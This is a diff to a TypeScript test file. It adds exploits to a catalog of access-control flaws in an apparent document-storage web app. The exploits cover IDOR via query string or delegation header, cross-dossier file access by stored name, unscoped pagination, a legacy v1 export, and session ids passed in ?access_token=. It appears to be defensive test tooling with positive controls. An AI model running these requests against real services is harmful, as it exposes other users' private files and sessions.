@@ -46,7 +46,7 @@ function pieceRead(title: string, route: (pieceId: number) => string, anonymous 
   };
 }
 
-const EXPLOITS: Record<FlawId, Exploit> = {
+const OLD_EXPLOITS = {
   'download-idor': pieceRead("another usager's pièce content by id", (id) => `/api/v2/pieces/${id}/contenu`),
   'view-idor': pieceRead("another usager's pièce detail page by id", (id) => `/pieces/${id}`),
   'anonymous-download': pieceRead('a pièce content without any session', (id) => `/api/v2/pieces/${id}/contenu`, true),
@@ -433,7 +433,101 @@ const EXPLOITS: Record<FlawId, Exploit> = {
       return findings.list;
     },
   },
-};
+} satisfies Partial<Record<FlawId, Exploit>>;
+
+/**
+ * Bruno's own summary request with Alice's id put in one place only (query or header): the
+ * positive control is the same request with his own id in both.
+ */
+function recapSwap(title: string, where: 'query' | 'header'): Exploit {
+  return {
+    title,
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const own = population.person('bruno').id;
+      const victim = population.person('alice').id;
+      const control = await attacker.get(`/api/v2/recapitulatif?usagerId=${own}`, { headers: { 'x-usager-id': String(own) } });
+      if (!control.text.includes(population.firstPieceOf('bruno').marker)) throw new Error(`positive control: bruno's own summary (${control.status}) lacks his pièce`);
+      const path = `/api/v2/recapitulatif?usagerId=${where === 'query' ? victim : own}`;
+      const header = String(where === 'header' ? victim : own);
+      const reply = await attacker.get(path, { headers: { 'x-usager-id': header } });
+      const findings = new Findings();
+      for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} with X-Usager-Id: ${header}`, reply, piece.marker);
+      return findings.list;
+    },
+  };
+}
+
+const NEW_EXPLOITS = {
+  'recap-query-scope': recapSwap("the summary of another usager named in the query string", 'query'),
+  'delegation-header': recapSwap("the summary of another usager named in the delegation header", 'header'),
+
+  'file-by-name': {
+    title: "my dossier in the URL with another dossier's stored file name",
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const own = population.firstPieceOf('bruno');
+      const ownPath = `/dossiers/${own.dossierId}/fichiers/${encodeURIComponent(own.storedName)}`;
+      const ownReply = await attacker.get(ownPath);
+      if (!ownReply.text.includes(own.marker)) throw new Error(`positive control: bruno GET ${ownPath} → ${ownReply.status} lacks his own file`);
+      const victim = population.firstPieceOf('alice');
+      const path = `/dossiers/${own.dossierId}/fichiers/${encodeURIComponent(victim.storedName)}`;
+      const findings = new Findings();
+      findings.leak(`bruno GET ${path}`, await attacker.get(path), victim.marker);
+      return findings.list;
+    },
+  },
+
+  'page-unscoped': {
+    title: 'the second page of my pièce list to hold other usagers\' pièces',
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const first = await attacker.get('/api/v2/pieces?page=1&limit=1');
+      if (!population.piecesOf('bruno').some((piece) => first.text.includes(piece.marker))) throw new Error(`positive control: bruno's first page (${first.status}) lacks his pièces`);
+      const findings = new Findings();
+      for (const page of [2, 3, 4, 5, 6]) {
+        const path = `/api/v2/pieces?page=${page}&limit=1`;
+        const reply = await attacker.get(path);
+        for (const piece of population.pieces.filter((item) => item.owner !== 'bruno')) findings.leak(`bruno GET ${path}`, reply, piece.marker);
+      }
+      return findings.list;
+    },
+  },
+
+  'export-v1-sibling': {
+    title: "another usager's dossier through the v1 sibling of the ZIP export",
+    async run(target) {
+      const { population } = target;
+      const attacker = await bruno(target);
+      const path = `/api/v1/dossiers/${population.dossierOf('alice')}/export`;
+      const reply = await attacker.get(path);
+      const findings = new Findings();
+      for (const piece of population.piecesOf('alice')) findings.leak(`bruno GET ${path} (ZIP entries)`, reply, piece.marker);
+      return findings.list;
+    },
+  },
+
+  'access-token-query': {
+    title: 'a session id in ?access_token= to open the espace without any cookie',
+    async run(target) {
+      const { population } = target;
+      const alice = await population.freshLogin('alice');
+      if (!alice.sid) throw new Error('alice has no sid after login');
+      const stranger = population.anonymous('whoever read the URL in a log');
+      const findings = new Findings();
+      const reply = await stranger.get(`/api/v2/moi?access_token=${encodeURIComponent(alice.sid)}`);
+      findings.leak('stranger GET /api/v2/moi?access_token=…', reply, population.person('alice').email);
+      const pieces = await stranger.get(`/api/v2/pieces?access_token=${encodeURIComponent(alice.sid)}`);
+      for (const piece of population.piecesOf('alice')) findings.leak('stranger GET /api/v2/pieces?access_token=…', pieces, piece.marker);
+      return findings.list;
+    },
+  },
+} satisfies Partial<Record<FlawId, Exploit>>;
+
+const EXPLOITS: Record<FlawId, Exploit> = { ...OLD_EXPLOITS, ...NEW_EXPLOITS };
 
 test('the flaw exploits cover every flaw of the catalog', () => {
   expect(Object.keys(EXPLOITS).sort()).toEqual([...FLAW_IDS].sort());
